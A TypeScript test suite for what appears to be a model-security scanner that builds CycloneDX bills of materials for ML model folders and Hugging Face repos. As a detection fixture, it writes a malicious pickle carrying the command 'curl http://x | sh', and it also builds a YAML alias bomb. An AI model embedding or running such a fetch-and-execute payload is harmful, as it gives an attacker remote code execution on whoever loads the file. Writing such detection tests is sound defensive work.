import { createHash, generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCard } from '../../src/app/bom/card.js';
import { bomForTarget } from '../../src/app/bom/collect.js';
import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
import { signModel } from '../../src/app/signing/sign.js';
import { HubProcess } from '../helpers/hub-process.js';
import { osSystemPickle } from '../helpers/pickles.js';
import { VECTORS } from '../signing/vectors.js';
import { cyclonedx16Errors } from './schema.js';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
const root = mkdtempSync(join(tmpdir(), 'mg-bom-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
const sha256 = (b: Buffer | string): string => createHash('sha256').update(b).digest('hex');

const CARD = `---
license: apache-2.0
base_model: google-bert/bert-base-uncased
datasets:
  - stanfordnlp/imdb
  - glue
pipeline_tag: text-classification
library_name: transformers
tags: [sentiment]
language: en
model-index:
  - name: bert-imdb
    results:
      - task: {type: text-classification, name: Text Classification}
        dataset: {type: imdb, name: IMDB}
        metrics:
          - {type: accuracy, value: 0.93}
---
# bert-imdb

## Intended uses & limitations
Sentiment of English movie reviews.

## Bias, Risks, and Limitations
Trained on movie reviews only.
`;
const CONFIG = JSON.stringify({ model_type: 'bert', architectures: ['BertForSequenceClassification'], hidden_size: 768, torch_dtype: 'float32' });
const safe = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [8, 8] }] });

function modelFolder(evil = true): string {
  const dir = mkdtempSync(join(root, 'model-'));
  writeFileSync(join(dir, 'README.md'), CARD);
  writeFileSync(join(dir, 'config.json'), CONFIG);
  writeFileSync(join(dir, 'model.safetensors'), safe);
  if (evil) writeFileSync(join(dir, 'extra.pkl'), osSystemPickle('curl http://x | sh'));
  return dir;
}

const model = (bom: Json): Json => bom.metadata.component;

describe('modelgate bom (local folder)', () => {
  let bom: Json = {};
  beforeAll(async () => {
    bom = await bomForTarget(modelFolder());
  });

  it('validates against the official CycloneDX 1.6 schema', () => {
    expect(cyclonedx16Errors(bom)).toEqual([]);
    expect(bom).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.6', version: 1 });
  });

  it('describes the model as a machine-learning-model with hash, licence and model card', () => {
    const m = model(bom);
    expect(m).toMatchObject({ type: 'machine-learning-model', 'bom-ref': 'model', licenses: [{ license: { id: 'Apache-2.0' } }] });
    expect(m.hashes[0].alg).toBe('SHA-256');
    expect(m.modelCard.modelParameters).toEqual({
      task: 'text-classification',
      architectureFamily: 'bert',
      modelArchitecture: 'BertForSequenceClassification',
      datasets: [{ ref: 'dataset:stanfordnlp/imdb' }, { ref: 'dataset:glue' }],
    });
    expect(m.modelCard.quantitativeAnalysis.performanceMetrics).toEqual([{ type: 'accuracy', value: '0.93', slice: 'Text Classification on IMDB' }]);
    expect(m.modelCard.considerations.technicalLimitations[0]).toMatch(/movie reviews only/);
    expect(m.modelCard.considerations.useCases[0]).toMatch(/English movie reviews/);
    expect(m.modelCard.properties).toContainEqual({ name: 'huggingface:config:hidden_size', value: '768' });
  });

  it('puts base_model under pedigree.ancestors with a purl, so lineage can be followed', () => {
    expect(model(bom).pedigree.ancestors).toEqual([
      expect.objectContaining({
        type: 'machine-learning-model',
        group: 'google-bert',
        name: 'bert-base-uncased',
        purl: 'pkg:huggingface/google-bert/bert-base-uncased',
      }),
    ]);
  });

  it('lists every file with its SHA-256, and datasets as data components', () => {
    const files = bom.components.filter((c: Json) => c.type === 'file');
    expect(files.map((f: Json) => f.name)).toEqual(['README.md', 'config.json', 'extra.pkl', 'model.safetensors']);
    expect(files.find((f: Json) => f.name === 'model.safetensors').hashes).toEqual([{ alg: 'SHA-256', content: sha256(safe) }]);
    const data = bom.components.filter((c: Json) => c.type === 'data');
    expect(data.map((d: Json) => [d.group, d.name])).toEqual([
      ['stanfordnlp', 'imdb'],
      [undefined, 'glue'],
    ]);
  });

  it('records findings as vulnerabilities with rule ids, ratings, CWEs and references', () => {
    const v = bom.vulnerabilities.find((x: Json) => x.id === 'pickle/dangerous-callable');
    expect(v).toMatchObject({ ratings: [{ severity: 'critical' }], affects: [{ ref: 'file:extra.pkl' }], cwes: [502] });
    expect(v.source.url).toMatch(/docs\/rules\/pickle-dangerous-callable\.md$/);
    expect(v.references.map((r: Json) => r.id)).toContainEqual(expect.stringMatching(/^MITRE ATLAS/));
  });

  it('records a verified signature as properties', async () => {
    const dir = modelFolder(false);
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
    const { bundle } = await signModel({
      modelPath: dir,
      signaturePath: join(dir, 'model.sig'),
      privateKey: Buffer.from(privateKey.export({ type: 'pkcs8', format: 'pem' })),
    });
    writeFileSync(join(dir, 'model.sig'), JSON.stringify(bundle));
    writeFileSync(join(root, 'pub.pem'), publicKey.export({ type: 'spki', format: 'pem' }));
    const signed: Json = await bomForTarget(dir, { signature: { publicKeys: [join(root, 'pub.pem')] } });
    expect(cyclonedx16Errors(signed)).toEqual([]);
    expect(model(signed).properties).toContainEqual({ name: 'modelgate:signature:verified', value: 'true' });
    expect(model(signed).properties.find((p: Json) => p.name === 'modelgate:signature:keyFingerprint').value).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(signed.vulnerabilities).toBeUndefined();
  });

  it('records a Sigstore identity, and a signature that fails as not verified', async () => {
    const keyless: Json = await bomForTarget(join(VECTORS, 'v1.1.0-sigstore'));
    expect(cyclonedx16Errors(keyless)).toEqual([]);
    expect(model(keyless).properties).toEqual(expect.arrayContaining([{ name: 'modelgate:signature:identity', value: 'stefanb@us.ibm.com' }]));
    const failed: Json = await bomForTarget(join(VECTORS, 'v1.1.0-elliptic-key'));
    expect(model(failed).properties).toContainEqual({ name: 'modelgate:signature:verified', value: 'false' });
  });
});

describe('model card front matter', () => {
  it('survives a card without front matter, with bad YAML, or with an alias bomb', () => {
    expect(readCard('# just text')).toMatchObject({ datasets: [], baseModels: [] });
    expect(readCard('---\nlicense: [unclosed\n---\n').license).toBeUndefined();
    const bomb = `---\na: &a [x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 200 }, (_, i) => `k${i}: [*a,*a,*a,*a,*a,*a,*a,*a]`).join('\n')}\nlicense: mit\n---\n`;
    expect(readCard(bomb).license).toBeUndefined();
  });
});

describe('modelgate bom (hf: repo)', () => {
  let hub: HubProcess;
  let cache: string;
  let commit = '';
  beforeAll(async () => {
    hub = await HubProcess.start();
    cache = mkdtempSync(join(tmpdir(), 'mg-bom-hub-'));
    commit = await hub.addSimpleRepo('acme/bert-imdb', [
      { path: 'README.md', content: Buffer.from(CARD) },
      { path: 'config.json', content: Buffer.from(CONFIG) },
      { path: 'model.safetensors', content: safe },
    ]);
  });
  afterAll(async () => {
    await hub.close();
    rmSync(cache, { recursive: true, force: true });
  });

  it('uses pkg:huggingface/org/name@commit, the card from the repo, and validates', async () => {
    const bom: Json = await bomForTarget('hf:acme/bert-imdb', { hub: { env: { HF_ENDPOINT: hub.url, HF_HOME: cache }, transport: { backoffMs: 10 } } });
    expect(cyclonedx16Errors(bom)).toEqual([]);
    expect(model(bom)).toMatchObject({ group: 'acme', name: 'bert-imdb', version: commit, purl: `pkg:huggingface/acme/bert-imdb@${commit}` });
    expect(model(bom).pedigree.ancestors[0].name).toBe('bert-base-uncased');
    expect(bom.components.find((c: Json) => c.name === 'model.safetensors').hashes[0].content).toBe(sha256(safe));
    // The unpinned revision is a repo-level finding, affecting the model itself.
    expect(bom.vulnerabilities.find((v: Json) => v.id === 'repo/unpinned-revision').affects).toEqual([{ ref: 'model' }]);
  });
});
